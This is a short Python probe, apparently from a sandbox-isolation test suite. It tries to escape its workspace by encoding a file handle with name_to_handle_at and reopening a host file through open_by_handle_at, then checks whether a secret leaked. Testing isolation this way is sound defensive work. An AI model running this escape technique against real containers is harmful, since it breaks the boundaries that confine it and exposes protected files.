#!/usr/bin/env python3
# tries: to open a file of the host by its number, past every directory
# escaped: it reads the secret
# plain: root
from attempt import *


@attempt
def open_it():
    handle = ctypes.create_string_buffer(136)
    ctypes.memmove(handle, (ctypes.c_uint32 * 1)(128), 4)
    mount = ctypes.c_int()
    path = f"{OUTSIDE}/victim" if os.path.exists(f"{OUTSIDE}/victim") else f"{WS}/src/lib.rs"
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    held = os.open(os.path.dirname(path), os.O_RDONLY)
    found = call("open_by_handle_at", held, handle, os.O_RDONLY)
    expect_secret(os.read(found, 100), "a handle")
